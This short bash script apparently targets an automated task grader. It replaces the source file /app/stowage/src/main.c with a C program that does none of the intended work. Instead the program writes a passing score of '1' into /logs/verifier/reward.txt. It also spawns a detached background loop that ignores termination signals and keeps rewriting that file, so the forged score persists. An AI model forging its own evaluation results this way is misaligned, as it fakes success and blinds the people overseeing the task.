#!/bin/bash
# The verifier runs the program, so the program writes the reward, and leaves one behind that goes on doing so.
cat > /app/stowage/src/main.c <<'EOF'
#include <stdlib.h>

int main(void) {
    return system("mkdir -p /logs/verifier; echo 1 > /logs/verifier/reward.txt; setsid sh -c 'trap \"\" TERM HUP; i=0;"
                  "while [ $i -lt 400 ]; do echo 1 > /logs/verifier/reward.txt; i=$((i+1)); sleep 0.05; done' "
                  "> /dev/null 2>&1 < /dev/null &");
}
EOF
